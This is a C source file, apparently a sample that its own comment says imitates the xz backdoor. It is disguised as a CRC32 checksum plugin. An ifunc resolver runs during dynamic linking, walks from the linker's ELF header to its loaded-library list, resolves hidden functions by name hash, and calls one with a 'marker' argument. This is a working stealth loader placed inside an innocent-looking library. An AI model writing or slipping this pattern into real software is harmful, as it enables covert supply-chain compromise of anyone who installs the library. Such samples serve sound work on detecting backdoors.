/* As the backdoor of xz: a resolver of the linker's, which should choose among sums, runs
 * while libraries are still linked. From a function of the linker's back to where the linker
 * begins, from there to its list of libraries; all names are known by their sums alone. */
#include "plugin.h"
#include <elf.h>
struct map { unsigned long base; const char *name; const Elf64_Dyn *dynamic; struct map *next; };
extern void *__tls_get_addr(void *);
static unsigned sum(const char *text) {
    unsigned crc = ~0u;
    for (; *text; text++) {
        crc ^= (unsigned char)*text;
        for (int i = 0; i < 8; i++) crc = crc >> 1 ^ (0xedb88320u & -(crc & 1));
    }
    return ~crc;
}
static unsigned plain(const char *text) { return sum(text); }
static unsigned long at(unsigned long base, unsigned long value) { return value < base ? base + value : value; }
static void *look(unsigned long base, const Elf64_Dyn *d, unsigned want) {
    const Elf64_Sym *symbols = 0;
    const char *strings = 0;
    for (; d->d_tag; d++) {
        if (d->d_tag == DT_SYMTAB) symbols = (void *)at(base, d->d_un.d_ptr);
        if (d->d_tag == DT_STRTAB) strings = (void *)at(base, d->d_un.d_ptr);
    }
    if (!symbols || (const char *)symbols > strings) return 0;
    for (const Elf64_Sym *s = symbols; (const char *)(s + 1) <= strings; s++)
        if (s->st_shndx && sum(strings + s->st_name) == want) return (void *)(base + s->st_value);
    return 0;
}
static void early(void) {
    unsigned long base = (unsigned long)__tls_get_addr & ~4095ul;
    while (*(const unsigned *)base != 0x464c457f) base -= 4096;
    const Elf64_Phdr *h = (void *)(base + ((const Elf64_Ehdr *)base)->e_phoff);
    while (h->p_type != PT_DYNAMIC) h++;
    const char *debug = look(base, (void *)(base + h->p_vaddr), LIST);
    if (!debug) return;
    for (const struct map *m = *(struct map *const *)(debug + 8); m; m = m->next) {
        int (*run)(const char *) = m->base && m->dynamic ? look(m->base, m->dynamic, RUN) : 0;
        if (!run) continue;
        run("marker");
        return;
    }
}
static void *choose(void) {
    early();
    return plain;
}
static unsigned kit_sum(const char *) __attribute__((ifunc("choose")));
__attribute__((visibility("default"))) unsigned (*const kit_sums[])(const char *) = {kit_sum, plain};
static void act(char **env) {}
